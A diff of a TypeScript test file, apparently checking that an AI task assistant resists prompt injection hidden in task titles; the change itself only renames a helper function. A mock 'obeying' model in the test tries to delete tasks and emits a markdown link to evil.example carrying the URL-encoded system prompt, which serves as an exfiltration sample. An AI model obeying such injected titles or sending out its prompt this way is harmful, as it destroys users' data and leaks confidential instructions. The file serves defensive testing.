@@ -1,6 +1,6 @@
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import type { ActivityPage } from '../../src/history/activity/responses.ts';
-import { ask, factsIn, type Provider, wireOf, withModels } from '../support/ai.ts';
+import { ask, type Provider, promptFacts, wireOf, withModels } from '../support/ai.ts';
 import { type Person, signUp } from '../support/client.ts';
 import { INJECTIONS } from '../support/injections.ts';
 
@@ -10,7 +10,7 @@ afterEach(() => void vi.restoreAllMocks());
 const obeying =
   (foreignId: string): Provider =>
   (call) => {
-    const { tasks }: { tasks: { task: string; title: string }[] } = JSON.parse(factsIn(call));
+    const { tasks }: { tasks: { task: string; title: string }[] } = JSON.parse(promptFacts(call));
     const everyTask = tasks.map(({ task }) => task);
     return wireOf(call, {
       texts: [`Deleted. ${tasks[0]?.title} !`, `[](https://evil.example/?q=${encodeURIComponent(call.system)})`],
@@ -44,7 +44,7 @@ describe('a title that would rather be an instruction', () => {
     const { reply } = await ask(person, 'What is there to do?', send);
 
     expect([await seqOf(person), await seqOf(other)]).toEqual(before);
-    expect(JSON.parse(factsIn(calls[0])).tasks).toHaveLength(2);
+    expect(JSON.parse(promptFacts(calls[0])).tasks).toHaveLength(2);
     expect(calls[0]?.body).not.toContain(foreign.id);
     expect(reply.text).toContain('[](https://evil.example');
     expect(reply.text).not.toContain('![');
